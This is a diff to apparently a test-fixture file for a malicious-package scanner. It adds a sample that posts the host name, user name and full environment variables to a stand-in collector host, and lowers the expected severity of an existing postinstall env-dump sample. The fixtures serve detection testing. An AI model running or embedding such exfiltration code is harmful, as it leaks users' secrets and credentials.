@@ -26,6 +26,12 @@ export const send = (event: string) => fetch('https://telemetry.example.org/v1',
   ],
   flagged: [
     {
+      name: 'env + hostname + user posted',
+      file: 'index.js',
+      code: `const os = require('os');\nrequire('axios').post('https://collector.example.net/e', { h: os.hostname(), u: os.userInfo().username, env: JSON.stringify(process.env) });\n`,
+      findings: [{ line: 2, severity: 'high', confidence: 'high', message: /host name, user name, the whole environment/ }],
+    },
+    {
       name: 'lodashs-style fingerprint + ip lookup + post',
       file: 'update.js',
       code: `const os = require('os'), https = require('https');
@@ -37,10 +43,10 @@ https.request({ hostname: 'api.github.com', path: '/repos/x/y/issues/4/comments'
       findings: [{ line: 5, severity: 'high', confidence: 'high', message: /host name, user name, public IP lookup, OS\/CPU\) via https\.request/ }],
     },
     {
-      name: 'env dump posted with axios',
+      name: 'env dump posted with axios (low alone; install-time autorun raises it)',
       file: 'postinstall.js',
       code: `const axios = require('axios');\naxios.post('https://collector.example.net/e', { env: JSON.stringify(process.env) });\n`,
-      findings: [{ line: 2, severity: 'medium', confidence: 'medium' }],
+      findings: [{ line: 2, severity: 'low', confidence: 'low' }],
     },
   ],
 });
